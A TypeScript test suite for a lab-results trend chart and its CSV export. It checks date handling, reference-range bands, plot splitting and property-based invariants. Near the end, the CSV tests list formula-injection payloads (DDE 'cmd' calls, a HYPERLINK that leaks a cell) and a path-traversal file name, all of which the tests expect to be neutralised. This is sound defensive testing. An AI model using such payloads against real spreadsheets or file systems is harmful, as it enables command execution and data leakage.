import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { csvOf } from './csv.js';
import { panelsOf } from './plot.js';
import { extentOf, groupsOf, spansOf, within, type SpanName } from './points.js';
import { csvRows, fileName } from './table-file.js';
import { en as report } from '../report/words/en.js';
import { en as locale } from '../../locale/en.js';
import type { SeriesPoint, SeriesSplit } from './series-queries.js';
import { en as words } from './words/en.js';

const telling = { words, report, locale };
const point = (at: string | undefined, plot: string | undefined, more: Partial<SeriesPoint> = {}): SeriesPoint =>
  ({ ...(at !== undefined && { at }), ...(plot !== undefined && { plot }), value: { kind: 'quantity', display: `${plot} mg/L`, quantity: { value: plot ?? '0', unit: 'mg/L' } }, status: 'final', observationId: 'o', splitId: 'a', ...more });
const split = (id: string, unit?: string, method?: string): SeriesSplit => ({ id, ...(unit !== undefined && { unit }), ...(method !== undefined && { method }) });
const range = (low?: string, high?: string, more = {}) => ({ kind: 'normal', display: `${low}–${high}`, ...(low && { low: { value: low } }), ...(high && { high: { value: high } }), ...more });
const plots = (points: SeriesPoint[], splits = [split('a', 'mg/L')]) => panelsOf(groupsOf({ points, splits }));

test('a time covers as much as it is known to, on the clock of its place', () => {
  assert.deepEqual(extentOf('2019'), { from: 17897, to: 18262, exact: false });
  assert.deepEqual(extentOf('2020-02'), { from: 18293, to: 18322, exact: false });
  assert.deepEqual(extentOf('2020-02-29'), { from: 18321, to: 18322, exact: true });
  assert.deepEqual(extentOf('2020-02-29T12:00:00+11:00'), { from: 18321.5, to: 18321.5, exact: true });
  for (const none of [undefined, '', 'in childhood', '2020-13']) assert.equal(extentOf(none), undefined);
});

test('spans end with the newest point, and only those are offered that show something else', () => {
  const groups = groupsOf({ splits: [split('a')], points: [point('2026-11-30', '1'), point('2026-05-30', '2'), point('2026-05-29', '3'), point('2024', '4'), point('2020-01-01', '5'), point(undefined, '6')] });
  const shown = (span: SpanName) => within(groups, span).flatMap(({ points }) => points.map((one) => one.point.plot));
  assert.deepEqual(spansOf(groups), ['half-year', 'year', 'three-years', 'all']);
  assert.deepEqual(shown('half-year'), ['1', '2', '6']);
  assert.deepEqual(shown('year'), ['1', '2', '3', '6']);
  assert.deepEqual(shown('three-years'), ['1', '2', '3', '4', '6']);
  assert.deepEqual(shown('all'), ['1', '2', '3', '4', '5', '6']);
  assert.deepEqual(spansOf(groupsOf({ splits: [split('a')], points: [point('2026-11-30', '1'), point('2026-11-01', '1')] })), ['all']);
});

test('only a range that is meant for this person and of this unit is drawn, open where it has one end', () => {
  const bands = (...ranges: object[]) => plots([point('2026-01-01', '5', { ranges: ranges as never })])[0]!.bands.map(({ top, bottom }) => [top, bottom]);
  assert.deepEqual(bands(range('3', '6')), [[true, true]]);
  assert.deepEqual(bands(range(undefined, '6')), [[true, false]]);
  assert.deepEqual(bands(range('3')), [[false, true]]);
  assert.deepEqual(bands(range('3', '6'), range('2', '5')), []);
  assert.deepEqual(bands(range('3', '6'), range('2', '5', { applies: true })), [[true, true]]);
  for (const none of [range(), range('6', '3'), range('3', '6', { kind: 'critical' }), range('3', '6', { applies: false }), range('3', '6', { low: { value: '3', unit: 'g/L' } }), range('3', '6', { appliesTo: ['Women'] })]) assert.deepEqual(bands(none), []);
});

test('a range that changes is a step half-way between its points, and a point without one has no band', () => {
  const [panel] = plots([point('2026-01-31', '5', { ranges: [range('3', '8')] }), point('2026-01-21', '5', { ranges: [range('3', '8')] }), point('2026-01-11', '5'), point('2026-01-01', '5', { ranges: [range('2', '6')] })]);
  assert.equal(panel!.bands.length, 2);
  const [old, recent] = panel!.bands;
  const at = panel!.marks.map(({ x }) => x);
  assert.equal(old!.x, 0);
  assert.ok(Math.abs(old!.width - (at[0]! + at[1]!) / 2) < 1e-9);
  assert.ok(Math.abs(recent!.x - (at[1]! + at[2]!) / 2) < 1e-9);
  assert.ok(Math.abs(recent!.x + recent!.width - 100) < 1e-9);
});

test('another unit or an overlap in time has a plot of its own; one after the other they share it with a break', () => {
  const later = [point('2026-03-01', '5', { splitId: 'b' }), point('2026-02-01', '5', { splitId: 'b' })];
  const earlier = [point('2026-01-20', '5'), point('2026-01-01', '5')];
  const shape = (splits: SeriesSplit[], points = [...later, ...earlier]) => plots(points, splits).map(({ groups, breaks }) => [groups.length, breaks.length]);
  assert.deepEqual(shape([split('b', 'mg/L', 'new'), split('a', 'mg/L', 'old')]), [[2, 1]]);
  assert.deepEqual(shape([split('b', 'g/L'), split('a', 'mg/L')]), [[1, 0], [1, 0]]);
  assert.deepEqual(shape([split('b'), split('a')]), [[1, 0], [1, 0]]);
  assert.deepEqual(shape([split('b', 'mg/L', 'new'), split('a', 'mg/L', 'old')], [later[0]!, earlier[0]!, later[1]!, point('2026-02-10', '4')]), [[1, 0], [1, 0]]);
});

test('a line goes through neighbours only, dashed beside a limit, and not through words or a year', () => {
  const moves = (path: string) => path.split('M').length - 1;
  const [panel] = plots([point('2026-06-01', '5'), point('2026-05-01', '4'), { ...point('2026-04-01', '3'), value: { kind: 'quantity', display: '<3', quantity: { value: '3', comparator: '<' } } }, point('2026-03-01', undefined), point('2026-02-01', '2'), point('2025', '2'), point('2024-01-01', '1')]);
  assert.deepEqual([moves(panel!.line), moves(panel!.unsure)], [1, 1]);
  assert.equal(plots([point('2026-06-01', '5', { splitId: 'unknown' }), point('2026-05-01', '4', { splitId: undefined as never })])[0]!.line, '');
});

test('a limit is never a point: by its comparator, or by the sign before a number that was read out of words', () => {
  const side = (more: Partial<SeriesPoint>) => groupsOf({ splits: [], points: [point('2026-01-01', '5', more)] })[0]!.points[0]!.side;
  const quantity = (comparator: string) => ({ value: { kind: 'quantity', display: '5', quantity: { value: '5', comparator } } });
  assert.deepEqual(['<', '<=', '>', '>=', 'ad', 'approx'].map((sign) => side(quantity(sign))), ['below', 'below', 'above', 'above', 'unclear', 'unclear']);
  assert.deepEqual(['<5 mg/L', '≥ 5', 'about 5'].map((display) => side({ value: { kind: 'text', display }, plotDerived: true })), ['below', 'above', undefined]);
});

const decimal = fc.tuple(fc.integer({ min: -100000, max: 100000 }), fc.integer({ min: 0, max: 3 })).map(([value, digits]) => (value / 10 ** digits).toFixed(digits));
const time = fc.tuple(fc.integer({ min: 1900, max: 2030 }), fc.integer({ min: 1, max: 12 }), fc.integer({ min: 1, max: 28 }), fc.integer({ min: 0, max: 3 })).map(([year, month, day, precision]) => [String(year), `-${String(month).padStart(2, '0')}`, `-${String(day).padStart(2, '0')}`, 'T08:40:00-06:00'].slice(0, precision + 1).join(''));
const anyPoint = fc.record({
  at: time, value: fc.record({ kind: fc.constantFrom('quantity', 'text', 'absent', 'com.example.new'), display: fc.string({ unit: 'grapheme' }) }), plot: decimal, plotDerived: fc.boolean(), status: fc.constantFrom('final', 'preliminary', 'com.example.odd'),
  observationId: fc.constantFrom('o1', 'o2'), splitId: fc.constantFrom('a', 'b', 'c', 'none'), ranges: fc.array(fc.record({ kind: fc.constantFrom('normal', 'critical'), display: fc.string(), low: fc.record({ value: decimal }), high: fc.record({ value: decimal }), applies: fc.boolean() }, { requiredKeys: ['kind', 'display'] }), { maxLength: 3 }),
  flags: fc.array(fc.record({ text: fc.string(), code: fc.constantFrom('H', 'N', 'toString') }, { requiredKeys: ['text'] }), { maxLength: 2 }),
}, { requiredKeys: ['value', 'status', 'observationId'] });
const anySeries = fc.record({ points: fc.array(anyPoint, { maxLength: 40 }), splits: fc.subarray([split('a', 'mg/L', 'one'), split('b', 'mg/L', 'two'), split('c', 'g/L')]) });

test('every point of any series is in its groups and its file to the letter; none is drawn outside, none is lost from the plots', () => {
  fc.assert(fc.property(anySeries, (series) => {
    const groups = groupsOf(series as never);
    const grouped = groups.flatMap(({ points }) => points.map((one) => one.point as unknown));
    assert.ok(grouped.length === series.points.length && series.points.every((one) => grouped.includes(one)));
    const panels = panelsOf(groups);
    const marks = panels.flatMap((panel) => panel.marks);
    assert.equal(marks.length, series.points.filter(({ at }) => at !== undefined).length);
    for (const { x, y, span } of marks) for (const place of [x, y ?? 0, ...(span ?? [])]) assert.ok(place >= 0 && place <= 100, `${place}`);
    for (const { bands } of panels) for (const { x, width, y, height } of bands) assert.ok(x >= 0 && x + width <= 100.001 && y >= -0.001 && y + height <= 100.001 && width >= 0 && height >= 0);
    for (const panel of panels) assert.ok(new Set(panel.groups.map(({ split: one }) => one?.unit ?? one)).size === 1, 'one unit a plot');
    const file = csvOf(csvRows('X', groups, telling));
    for (const { value: { display } } of series.points) assert.ok(file.includes(display.replaceAll('"', '""')), display);
  }));
});

test('no line leads from one split to another, nor over what has no place', () => {
  fc.assert(fc.property(anySeries, (series) => {
    for (const panel of panelsOf(groupsOf(series as never))) {
      const places = (path: string) => path.split('M').filter(Boolean).map((part) => part.split('L').map((place) => place.split(',').map(Number) as [number, number]));
      const isAt = ([x, y]: [number, number]) => panel.marks.filter((mark) => mark.y !== undefined && Math.abs(mark.x - x) < 0.01 && Math.abs(mark.y - y) < 0.01 && !mark.span);
      for (const part of [...places(panel.line), ...places(panel.unsure)]) {
        assert.equal(part.length, 2);
        const [from, to] = [isAt(part[0]!), isAt(part[1]!)];
        assert.ok(from.some((one) => to.some((other) => one.split !== undefined && one.split === other.split)));
      }
    }
  }));
});

const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '\u200b=1', '＝1', '＋1', '－1', '＠A1', '=cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!D2', '=HYPERLINK("http://x.invalid?"&A1)', '-', '+5', '−5', '"=1'];
test('nothing in the file is a formula, and a number stays a number', () => {
  for (const text of formulas.slice(0, 20)) assert.equal(csvOf([[text]]), `\uFEFF"'${text.replaceAll('"', '""')}"\r\n`, JSON.stringify(text));
  for (const text of ['-5', '-5.20', '1e-3', '38 ng/mL', '<10', 'a,b', 'µ', 'line\nbreak', '']) assert.equal(csvOf([[text]]), `\uFEFF"${text}"\r\n`);
  assert.equal(csvOf([['a "quoted", one', 'b'], ['c', '']]), '\uFEFF"a ""quoted"", one","b"\r\n"c",""\r\n');
});

test('the file has every part in its column, and a name that says nothing of the test', () => {
  const groups = groupsOf({ splits: [split('a', 'mg/L', 'Nephelometry')], points: [point('2026-11-30', '6.20', { ranges: [range('1', '5')], flags: [{ code: 'H', text: 'H' }] })] });
  assert.deepEqual(csvRows('CRP', groups, telling), [['Test', 'Taken', 'Result', 'Unit', 'Range', 'Flag', 'Status', 'Method'], ['CRP', '2026-11-30', '6.20 mg/L', 'mg/L', '1–5', 'High', 'final', 'Nephelometry']]);
  assert.equal(fileName('2026-12-07T08:00:00-07:00', words), 'results-over-time-2026-12-07.csv');
  assert.equal(fileName('..', { fileName: () => '../../etc/\u202epasswd\u0000' }), 'etc-passwd.csv');
});
